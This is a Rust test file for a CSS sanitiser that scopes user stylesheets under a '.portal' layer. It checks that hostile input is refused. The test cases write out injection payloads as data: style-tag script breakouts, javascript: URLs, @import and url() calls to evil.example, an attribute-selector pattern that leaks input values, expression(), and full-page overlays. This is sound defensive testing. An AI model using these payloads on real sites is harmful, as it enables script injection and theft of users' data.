use super::compiled;
use proptest::prelude::*;

#[test]
fn a_sheet_is_put_below_the_portal_and_made_small() {
    let css = "h1 { color: #ff0000; }\n/* a remark */\n.choice, .button.primary { border-radius: 0px; &:hover { opacity: .9 } }\n@media (min-width: 640px) { .page-head { padding: 4px } }";
    let expected = "@layer company{.portal h1{color:red}.portal .choice,.portal .button.primary{border-radius:0}:is(.portal .choice,.portal .button.primary):hover{opacity:.9}@media (min-width:640px){.portal .page-head{padding:4px}}}\n";
    assert_eq!(compiled(css).as_deref(), Ok(expected));
    let own = compiled(":root { --radius: 0 } body { color: red } & { --radius: 2px }").expect("good");
    assert!(
        own.contains(".portal :root")
            && own.contains(".portal body")
            && own.contains(".portal{--radius:2px}"),
        "{own}"
    );
}

#[test]
fn what_loads_runs_or_lies_over_the_page_is_refused() {
    for (css, key) in [
        ("h1 { color: red", ""),
        ("h1 { color: red } }", "error-css"),
        ("} body { display: none } .x {", "error-css"),
        ("h1 { color: }", "error-css-property"),
        ("</style><script>alert(1)</script>", "error-css"),
        ("a::after { content: \"</style><script>alert(1)</script>\" }", "error-css-refused"),
        ("@import url(https://evil.example/x.css);", "error-css-rule"),
        ("@import \"https://evil.example/x.css\";", "error-css-rule"),
        ("@im\\70ort \"https://evil.example/x.css\";", "error-css-rule"),
        ("@font-face { font-family: x; src: url(https://evil.example/x.woff2) }", "error-css-rule"),
        ("@layer reset { * { color: red } }", "error-css-rule"),
        ("@keyframes x { from { opacity: 0 } }", "error-css-rule"),
        ("@namespace svg url(http://www.w3.org/2000/svg);", "error-css-rule"),
        ("@charset \"utf-8\"; @page { margin: 0 }", "error-css-rule"),
        ("@property --x { syntax: '*'; inherits: false }", "error-css-rule"),
        ("@unheard-of { h1 { color: red } }", "error-css-rule"),
        // Signs that an address without quotes cannot have (CSS Syntax, "bad-url"): not even CSS.
        ("h1 { background: url(javascript:alert(1)) }", "error-css"),
        ("h1 { background: url('javascript:alert(1)') }", "error-css-refused"),
        ("h1 { background: url(https://evil.example/pixel.png) }", "error-css-refused"),
        ("h1 { background: u\\72l(https://evil.example/pixel.png) }", "error-css-refused"),
        ("h1 { background: UrL('//evil.example/x') }", "error-css-refused"),
        ("h1 { --x: url(https://evil.example/x); background: var(--x) }", "error-css-refused"),
        ("h1 { background: image-set('https://evil.example/x' 1x) }", "error-css-refused"),
        ("h1 { cursor: url(x.cur), auto }", "error-css-refused"),
        ("input[value^='a'] { background: url(https://evil.example/a) }", "error-css-refused"),
        ("h1 { width: expression(alert(1)) }", "error-css-refused"),
        ("h1 { behavior: url(x.htc) }", ""),
        ("h1 { -moz-binding: url(x) }", ""),
        ("main { position: fixed; inset: 0 }", "error-css-property"),
        ("main { position: sticky }", "error-css-property"),
        ("main { position: var(--x) }", "error-css-property"),
        ("main { POSITION: Fixed }", "error-css-property"),
        ("a { color: red; @media print { position: fixed } }", "error-css-property"),
        ("h1 { color: red !important }", "error-css-important"),
        ("html:has(&) body { display: none }", "error-css-refused"),
    ] {
        let refused = compiled(css);
        if key.is_empty() {
            // Either it is refused, or nothing of it is left that does anything.
            let harmless = refused.as_ref().is_ok_and(|css| css == "@layer company{.portal h1{color:red}}\n");
            assert!(harmless || refused.is_err(), "{css} became {refused:?}");
        } else {
            assert_eq!(refused.as_ref().map_err(|problem| problem.key), Err(key), "{css} became {refused:?}");
        }
    }
    let large = (0..400).map(|n| format!(".c{n} {{ width: {n}px }}")).collect::<String>();
    assert_eq!(compiled(&large).unwrap_err().key, "error-css-size");
    let broken = compiled("h1 { color: red }\n}").unwrap_err();
    assert_eq!(broken.args.first().map(|(name, value)| (*name, value.as_ref())), Some(("line", "2")));
}

proptest! {
    #[test]
    fn whatever_is_typed_stays_in_its_place(
        css in "([{}();:@#.&*>,!\"'\\\\/ \n-]|url\\(|@import|@media|position|fixed|color|red|h1|</style>|expression|important|[a-z0-9]){0,50}"
    ) {
        if let Ok(made) = compiled(&css) {
            prop_assert!(made.starts_with("@layer company{") && made.ends_with("}\n"), "{made}");
            let (mut depth, mut closed) = (0_i32, false);
            let mut quote = None;
            let mut signs = made.trim_end().chars();
            while let Some(sign) = signs.next() {
                match (quote, sign) {
                    (_, '\\') => drop(signs.next()),
                    (Some(open), sign) if sign == open => quote = None,
                    (Some(_), _) => {}
                    (None, '"' | '\'') => quote = Some(sign),
                    (None, '{') => { prop_assert!(!closed, "{made}"); depth += 1; }
                    (None, '}') => { depth -= 1; closed = depth == 0; }
                    _ => {}
                }
            }
            prop_assert_eq!(depth, 0, "{}", made);
            let lower = made.to_ascii_lowercase();
            let loads = ["url(", "@import", "fixed}"].into_iter().any(|word| lower.contains(word));
            prop_assert!(!loads, "{made}");
        }
    }
}
